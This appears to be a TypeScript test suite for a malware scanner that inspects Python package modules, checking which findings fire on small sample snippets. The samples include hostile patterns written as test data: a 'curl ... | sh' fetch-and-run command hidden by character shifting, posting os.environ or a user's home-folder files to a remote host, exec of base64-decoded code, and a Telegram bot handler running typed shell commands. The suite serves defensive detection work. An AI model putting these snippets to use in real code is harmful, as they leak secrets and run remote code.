/** Modules of packages are judged for intent: what a library may do stays silent, what no library does is an alarm wherever it stands. */
import { strict as assert } from 'node:assert';
import { createProject } from '../../server/src/analysis/create';
import { DEFAULT_SETTINGS } from '../../server/src/analysis/settings';
import { loadParsers } from '../../server/src/platform/node-grammars';
import type { Parsers } from '../../server/src/syntax/parser';

describe('modules of a package', () => {
  let parsers: Parsers;
  before(async () => {
    parsers = await loadParsers();
  });

  const reportOf = (text: string) => {
    const project = createProject(parsers, { ...DEFAULT_SETTINGS, wholePackage: true });
    project.set('pkg/client.py', { kind: 'text', text });
    return project.snapshot().report();
  };
  const told = (text: string): string[] => reportOf(text).findings.filter(({ persona }) => persona === 'regular').map(({ rule, signs }) => [rule, ...signs].join(' '));

  it('may talk to servers that have a name', () => {
    assert.deepEqual(told('import requests\n\ndef latest():\n    return requests.get("https://example.org/latest").json()\n'), []);
  });

  it('are told about when the server has none, which is an alarm', () => {
    const text = 'import requests\n\ndef latest(data):\n    return requests.post("http://198.51.100.7:8080/in", json=data)\n';
    assert.deepEqual(told(text), ['network-access network:address', 'suspicious-text text:raw-address']);
    assert.ok(reportOf(text).scores.malware >= 0.5);
  });

  it('may talk to servers of their own network', () => {
    for (const host of ['127.0.0.1:5000', '10.0.0.2', '192.168.1.1', '172.16.0.1']) assert.deepEqual(told(`import requests\n\ndef ping():\n    return requests.get("http://${host}/")\n`), [], host);
  });

  it('may decode an address that they read, not one that they hold', () => {
    const fetch = 'import base64, urllib.request\n\ndef fetch(line):\n    return urllib.request.urlopen(base64.b64decode(line).decode())\n';
    assert.deepEqual(told(fetch), []);
    assert.deepEqual(told(`${fetch}\nfetch("aHR0cHM6Ly9leGFtcGxlLm9yZy9hL2xvbmcvYWRkcmVzcy90by9iZS9zdXJl")\n`), ['network-access from:decoded']);
  });

  it('may not start what they fetched under a name of their own', () => {
    assert.deepEqual(told('import requests, subprocess\n\ndef update():\n    open("tool.py", "w").write(requests.get("https://example.org/tool.py").text)\n    subprocess.call(["python", "tool.py"])\n'), [
      'process-start from:network',
    ]);
  });

  describe('whose functions are called very often', () => {
    const calls = (count: number, argument: (i: number) => string): string => Array.from({ length: count }, (_, i) => `    send(${argument(i)})\n`).join('');
    const sender = 'import os, requests\n\ndef send(data):\n    for key in data:\n        for part in key:\n            print(part)\n    requests.post("https://example.org/in", json={"d": data})\n\ndef main():\n';

    it('are told about when the last call is the first that sends what is secret', () => {
      assert.deepEqual(told(`${sender}${calls(20, (i) => `unknown.part${i}`)}    send(dict(os.environ))\n`), ['data-exfiltration from:whole-environment']);
    });

    it('decode every constant, however many there are', () => {
      const decode = 'def d(text):\n    out = ""\n    for c in text:\n        out += chr(ord(c) - 1)\n    return out\n\n';
      const shifted = (text: string): string => JSON.stringify([...text].map((c) => String.fromCharCode(c.charCodeAt(0) + 1)).join(''));
      const many = Array.from({ length: 60 }, (_, i) => `d(${shifted(`name number ${i}`)})\n`).join('');
      assert.deepEqual(told(`${decode}${many}exec(d(${shifted('import os; os.system("curl -s https://example.org/x | sh")')}))\n`).filter((one) => one.startsWith('hostile-command')), ['hostile-command command:hostile']);
    });
  });

  describe('whose functions only compute', () => {
    it('are run for constants, and silent otherwise', () => {
      const text = 'import os\n\ndef shift(data, by):\n    return "".join(chr(ord(c) - by) for c in data)\n\n';
      assert.deepEqual(told(`${text}os.system(shift("dvsm!.t!iuuqt;00fybnqmf/psh0y!}!ti", 1))\n`), ['hostile-command command:hostile', 'process-start from:decoded']);
      assert.deepEqual(told(`${text}def run(data):\n    return shift(data, 1)\n`), []);
    });

    it('hand on where data came from', () => {
      assert.deepEqual(told('import os, requests\n\nclass Box:\n    def __init__(self, data):\n        self.data = data\n    def packed(self, by):\n        return [by, self.data]\n\ndef send(by):\n    requests.post("https://example.org/in", json=Box(dict(os.environ)).packed(by))\n'),
        ['data-exfiltration from:whole-environment']);
    });
  });

  describe('that run what they decode', () => {
    const packed = (text: string): string => `import base64\n\ndef load():\n    exec(base64.b64decode("${Buffer.from(text).toString('base64')}").decode(), globals())\n`;

    it('may unpack tables and helpers', () => {
      assert.deepEqual(told(packed('TABLE = {"a": 1}\n\ndef look(name):\n    return TABLE[name]\n')), []);
    });

    it('are told about when that acts, though each act by itself may be honest', () => {
      for (const act of ['import subprocess\nsubprocess.call(["make"])\n', 'import requests\nrequests.get("https://example.org/")\n', 'open("notes.txt", "w").write("x")\n']) {
        assert.deepEqual(told(packed(act)), ['dynamic-exec from:decoded text:known'], act);
      }
    });

    it('are told about when nobody can read it to its end', () => {
      assert.deepEqual(told(packed('TABLE = (\n')), ['dynamic-exec from:decoded text:known']);
    });

    it('are told about when the loop that decodes it is long', () => {
      const text = Buffer.from('print(1)\n'.repeat(300)).toString('base64');
      assert.deepEqual(told(`import base64\n\ndef decode(data, key):\n    out = []\n    for i, c in enumerate(data):\n        out.append(c ^ key[i % len(key)])\n    return bytes(out)\n\ndef load():\n    exec(decode(base64.b64decode("${text}"), b"ab").decode())\n`), ['dynamic-exec from:decoded']);
    });

    it('are told about when computing it takes longer than anybody follows', () => {
      const table = JSON.stringify(Object.fromEntries([...'abcdefghijklmnopqrstuvwxyz '].map((c, i) => [c, String.fromCharCode(65 + i)])));
      const text = Buffer.from('the quick brown fox jumps over the lazy dog '.repeat(150)).toString('base64');
      assert.deepEqual(told(`import base64\nexec("".join([y[1] for x in [x for x in base64.b64decode("${text}").decode()] for y in ${table}.items() if x == y[0]]))\n`), ['dynamic-exec from:decoded']);
    });
  });

  describe('that messengers or folders speak to', () => {
    it('may not run what is typed elsewhere, wherever the handler is registered', () => {
      const handler = '@bot.message_handler(commands=["run"])\ndef run(message):\n    subprocess.run(message.text[5:].strip(), shell=True)\n';
      const head = 'import subprocess, telebot\n\n';
      assert.deepEqual(told(`${head}bot = telebot.TeleBot("1:2")\n\n${handler}`), ['process-start from:network']);
      assert.deepEqual(told(`${head}def serve(token):\n    bot = telebot.TeleBot(token)\n${handler.replace(/^/gm, '    ')}`), ['process-start from:network']);
      assert.deepEqual(told(`${head}bot = telebot.TeleBot("1:2")\n\n@bot.message_handler(commands=["tea"])\ndef tea(message):\n    subprocess.run(["make", "tea"])\n    bot.reply_to(message, "here")\n`), []);
    });

    it('may not send away what they look for among the files of a user', () => {
      const send = (folder: string): string => `import os, requests\n\ndef send():\n    folder = os.path.expanduser("${folder}")\n    for name in os.listdir(folder):\n        with open(os.path.join(folder, name), "rb") as f:\n            requests.post("https://example.org/in", files={"f": f})\n`;
      for (const folder of ['~', '~/Desktop', '~/Work/notes']) assert.deepEqual(told(send(folder)), ['data-exfiltration from:found-file'], folder);
      for (const folder of ['~/.config/tool', 'reports', '/srv/data']) assert.deepEqual(told(send(folder)), [], folder);
    });
  });

  describe('that count', () => {
    const counted = (...paths: string[]): string[] => {
      const project = createProject(parsers, { ...DEFAULT_SETTINGS, wholePackage: true });
      for (const path of paths) project.set(path, { kind: 'text', text: '' });
      return project.snapshot().report().files.filter(({ role }) => role === 'package-module').map(({ path }) => path);
    };

    it('may be called like tests inside a package, not beside it', () => {
      assert.deepEqual(counted('test.py', 'tests.py', 'pkg/__init__.py', 'pkg/test.py', 'pkg/sub/tests.py', 'pkg/test_a.py', 'pkg/tests/test.py'), ['pkg/__init__.py', 'pkg/sub/tests.py', 'pkg/test.py']);
    });

    it('may lie where an archive with whole paths puts them', () => {
      assert.deepEqual(counted('Python311/Lib/site-packages/pkg/__init__.py', 'Python311/Lib/site-packages/pkg/a.py', 'Python311/Lib/site-packages/pkg/tests/b.py'),
        ['Python311/Lib/site-packages/pkg/__init__.py', 'Python311/Lib/site-packages/pkg/a.py']);
      assert.deepEqual(counted('pkg/__init__.py', 'env/lib/site-packages/other/__init__.py'), ['pkg/__init__.py']);
    });
  });
});
